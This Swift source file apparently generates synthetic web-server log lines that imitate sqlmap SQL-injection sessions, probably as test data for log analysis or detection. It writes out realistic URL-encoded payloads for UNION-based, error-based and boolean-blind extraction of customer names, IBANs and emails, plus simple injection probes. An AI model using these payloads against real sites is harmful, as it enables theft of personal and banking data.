/// Attack sessions as tools run them, each from one address: rows by UNION, a value by bisection, errors, probes.
struct Intruders {
  private var row = 0
  private var bisection = Bisection()
  private static let agent = Array("sqlmap/1.8#stable (https://sqlmap.org)".utf8)
  private static let probes = [
    "1%27", "1%27%20or%20%271%27%3D%271", "%27%20order%20by%2012--%20-", "1%20and%201%3D1", "1%20and%201%3D2",
  ]

  mutating func request(at stamp: [UInt8], _ random: inout RandomBits, into line: inout LogLine) {
    switch random.below(4) {
    case 0: union(at: stamp, &random, into: &line)
    case 1: error(at: stamp, &random, into: &line)
    case 2: probe(at: stamp, &random, into: &line)
    default: bisect(at: stamp, &random, into: &line)
    }
  }

  private mutating func union(at stamp: [UInt8], _ random: inout RandomBits, into line: inout LogLine) {
    line.begin(client: Array("198.51.100.9".utf8), stamp: stamp, method: "GET")
    line.add("/catalog/product?cat=-1%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7162627671%2C")
    line.add("IFNULL%28CAST%28name%20AS%20CHAR%29%2C0x20%29%2C0x7176707171%29%2CNULL%20FROM%20")
    line.add("shop.customers%20LIMIT%20\(row)%2C1--%20-")
    line.end(status: Array("200".utf8), bytes: 3_300 + random.from(5, 30), referer: [0x2D], agent: Self.agent)
    row += 1
  }

  private func error(at stamp: [UInt8], _ random: inout RandomBits, into line: inout LogLine) {
    line.begin(client: Array("198.51.100.10".utf8), stamp: stamp, method: "GET")
    line.add("/user?uid=1%27%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2C0x71%2C%28SELECT%20MID%28")
    line.add("IFNULL%28CAST%28iban%20AS%20CHAR%29%2C0x20%29%2C1%2C21%29%20FROM%20shop.customers%20")
    line.add("LIMIT%20\(random.below(900))%2C1%29%2C0x71%29%29%20AND%20%27a%27%3D%27a")
    line.end(status: Array("500".utf8), bytes: 2_231, referer: [0x2D], agent: Self.agent)
  }

  private func probe(at stamp: [UInt8], _ random: inout RandomBits, into line: inout LogLine) {
    line.begin(client: Array("192.0.2.55".utf8), stamp: stamp, method: "GET")
    line.add("/search?q=")
    line.add(random.pick(Self.probes))
    line.end(status: Array("200".utf8), bytes: random.from(300, 9_000), referer: [0x2D], agent: Self.agent)
  }

  private mutating func bisect(at stamp: [UInt8], _ random: inout RandomBits, into line: inout LogLine) {
    let row = bisection.row
    let (position, middle, isGreater) = bisection.next(&random)
    line.begin(client: Array("203.0.113.7".utf8), stamp: stamp, method: "GET")
    line.add("/item?id=7%27%20AND%20ORD%28MID%28%28SELECT%20IFNULL%28CAST%28mail%20AS%20NCHAR%29")
    line.add("%2C0x20%29%20FROM%20shop.customers%20ORDER%20BY%20id%20LIMIT%20\(row)%2C1%29%2C")
    line.add("\(position)%2C1%29%29%3E\(middle)%20AND%20%27x%27%3D%27x")
    line.end(status: Array("200".utf8), bytes: isGreater ? 5_213 : 1_187, referer: [0x2D], agent: Self.agent)
  }
}

/// Halving 1...127 until one code is left, then the next position; a value has sixteen.
private struct Bisection {
  private(set) var row = 0
  private var position = 1
  private var secret = 97
  private var low = 0
  private var high = 127

  mutating func next(_ random: inout RandomBits) -> (position: Int, middle: Int, isGreater: Bool) {
    let middle = (low + high) / 2
    let asked = (position, middle, secret > middle)
    if secret > middle { low = middle + 1 } else { high = middle }
    if low == high {
      (low, high) = (0, 127)
      secret = random.from(40, 123)
      position += 1
      if position > 16 { (row, position) = (row + 1, 1) }
    }
    return asked
  }
}
